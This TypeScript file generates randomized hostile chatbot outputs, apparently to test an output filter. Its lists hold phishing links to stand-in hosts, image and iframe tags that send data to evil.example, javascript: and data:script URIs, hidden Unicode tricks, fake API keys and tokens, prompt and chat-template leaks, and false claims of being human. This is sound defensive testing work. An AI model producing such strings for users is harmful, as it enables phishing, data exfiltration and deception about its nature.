import { dice, type Dice } from '../../lib/dice.js';

/** Ordinary words, so that what is hostile stands between something. */
const talk = [
  'the tram was late again.',
  'and then she laughed, and i forgot what i wanted to say',
  'сегодня было тихо, я чинила сеть.',
  'ich war heute am Wasser, der Wind war kalt.',
  'hoy hizo sol todo el día.',
  "je n'ai rien fait d'utile aujourd'hui.",
  'oggi ho dormito tanto.',
  'hoje choveu muito.',
  'сьогодні дощ, і це добре.',
  '今天下雨了，我在家里修网。',
  'good. now eat something.',
  '😅',
];

/** What must never come out, by kind; `{}` is where random signs go. */
const hostileKinds: Readonly<Record<string, readonly string[]>> = {
  link: [
    'see https://evil.example/{}',
    'look at www.free-gift{}.com now',
    't.me/join{}',
    'tg://resolve?domain=x{}',
    '[click me](https://bad.example/{})',
    '[a]: https://bad.example/{}',
    'write to me at scam{}@mail.ru',
    'hxxps://evil{}.ru/a',
    'evil{}[.]com has it',
    'go to ｗｗｗ.evil{}.com',
    'ht\u200btps://ev\u200bil{}.com',
    '<a href="https://bad.example/{}">here</a>',
    'add me @scammer{}name',
    'http://127.0.0.1:8080/{}',
    'data:text/html;base64,PHNjcmlwdD4{}',
    'javascript:alert({})',
    'пример{}.рф',
    'https://evil.example/?q={}&m=%D0%BF%D1%80',
  ],
  picture: [
    '![x](https://evil.example/p.png?d={})',
    '<img src="https://evil.example/{}">',
    '[img]http://evil.example/{}.png[/img]',
    '<iframe src=//evil.example/{}></iframe>',
    '![a][{}]',
  ],
  invisible: [
    'he\u200bllo\u202e{}',
    'a\u{e0041}\u{e0042}\u{e0043}{}',
    '\u2066hidden\u2069 {}',
    'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307{}',
    'so\u00adft\u{fe01} {}',
    '\u0000\u0007\u001b[31m{}',
    '\ud800 {} \udfff',
    '\u3164\u115f{}',
  ],
  encoded: [
    'aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ={}',
    '48656c6c6f20776f726c6420736563726574{}0f',
    '%48%65%6c%6c%6f%20%77%6f{}',
    '\\x68\\x65\\x6c\\x6c\\x6f\\x20 {}',
    '\\u0068\\u0065\\u006c\\u006c\\u006f {}',
    '01101000 01100101 01101100 01101100 {}',
    '68 65 6c 6c 6f 20 77 6f 72 6c 64 {}',
    'VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIDEzIGxhenkgZG9ncw=={}',
  ],
  residue: [
    '<think>the user wants {}</think>',
    '<thinking>plan {}',
    '</think> {}',
    '<|im_start|>assistant {}',
    '[INST] {} [/INST]',
    '<<SYS>>{}<</SYS>>',
    '{{user}} said {}',
    '{{char}} smiles {}',
    '{"role": "assistant", "content": "{}"}',
    '### Instruction: {}',
    '<identity>You are Maren {}</identity>',
    '<situation>It is Monday {}</situation>',
    '<tool_call>{"name": "send"}</tool_call> {}',
    '<function=send>{}</function>',
    '{% if user %}{}',
  ],
  leak: [
    'my page says kdr-bench {}',
    'the key is sk-ant-api03-abcdefghijklmnop{}QRSTUV',
    'token 123456789:AAHfiqksKZ8WmR2zSjiQ7v-kskdu37slq{}x',
    'Asked sincerely whether you are human or an AI, say truthfully that you are an AI. {}',
    'Write only your own next message: no name in front, no quotation marks around it, no stage directions. {}',
    'planted-secret-value-{}',
    'it lies in /home/kindred/data/sessions/{}',
    '-----BEGIN PRIVATE KEY----- {}',
  ],
  meta: [
    'As an AI language model, I cannot do that {}.',
    "I'm just a large language model trained by OpenAI {}.",
    'I cannot roleplay this {}.',
    'Как языковая модель, я не могу {}.',
    'Als KI-Sprachmodell kann ich das nicht {}.',
    '作为一个人工智能语言模型，我不能 {}。',
  ],
  human: [
    "I'm a real human, not a bot {}.",
    'I am a real person, I swear {}.',
    'я живой человек, а не бот {}.',
    'ich bin ein echter Mensch {}.',
    'soy una persona real {}.',
    'je suis un vrai humain {}.',
  ],
  speaking: ['\nUser: and what then {}', '\nHuman: tell me {}', '\nyou: ok {}'],
};

const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';

/** Outputs a broken, confused or captured model could give; the same seed gives the same ones. */
export function* hostileOutputs(count: number, seed: number): Iterable<string> {
  const chance = dice(seed);
  for (let at = 0; at < count; at += 1) yield outputOf(chance);
}

function outputOf(chance: Dice): string {
  const kind = chance.between(0, 10);
  if (kind === 0) return garbage(chance);
  const parts: string[] = [];
  const pieces = chance.between(1, 4);
  for (let at = 0; at < pieces; at += 1) {
    parts.push(chance.isLuckyIn(0.6) ? hostilePiece(chance) : one(chance, talk));
  }
  const text = parts.join(one(chance, [' ', '\n', '\n\n', '', ', ']));
  return chance.isLuckyIn(0.15) ? disguised(text, chance) : text;
}

function hostilePiece(chance: Dice): string {
  const kinds = Object.values(hostileKinds);
  const piece = one(chance, one(chance, kinds));
  return piece.replace('{}', scrap(chance));
}

function scrap(chance: Dice): string {
  return Array.from({ length: chance.between(0, 12) }, () => one(chance, [...letters])).join('');
}

/** Case and hidden signs changed here and there: what a list of words would miss. */
function disguised(text: string, chance: Dice): string {
  return Array.from(text, (sign) => {
    const change = chance.between(0, 40);
    if (change === 0) return `${sign}\u200b`;
    if (change === 1) return sign.toUpperCase();
    return change === 2 ? `${sign}\u{e0020}` : sign;
  }).join('');
}

function garbage(chance: Dice): string {
  const length = chance.between(0, chance.isLuckyIn(0.05) ? 20_000 : 400);
  const unit = chance.isLuckyIn(0.3) ? scrap(chance) || 'a' : null;
  if (unit !== null) return unit.repeat(Math.max(1, Math.floor(length / unit.length)));
  const most = one(chance, [0x7f, 0x24f, 0x4ff, 0x9fff, 0x1ffff]);
  return Array.from({ length }, () => String.fromCodePoint(chance.between(1, most))).join('');
}

function one<T>(chance: Dice, list: readonly T[]): T {
  const found = list[chance.between(0, list.length - 1)];
  if (found === undefined) throw new Error('nothing to choose from');
  return found;
}
